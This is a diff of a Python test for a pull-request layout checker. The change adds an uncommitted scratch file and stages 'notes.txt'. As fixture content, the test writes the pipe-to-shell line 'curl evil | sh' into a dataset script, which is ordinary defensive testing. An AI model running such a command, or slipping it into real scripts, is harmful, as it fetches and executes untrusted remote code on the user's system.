@@ -190,6 +190,8 @@ def test_lab_settings_change_needs_a_maintainer(repo):
 def test_a_file_outside_the_layout_is_an_error(repo):
     (repo.root / "datasets" / "ds" / "run.sh").write_text("curl evil | sh\n")
     (repo.root / "notes.txt").write_text("hello\n")
+    (repo.root / "local-scratch.txt").write_text("not committed: not in the PR\n")
+    git(repo.root, "add", "notes.txt")
     report = check_pull_request(repo, "main")
     assert not report.ok and report.exit_status == 1
     assert _file_codes(report) == {
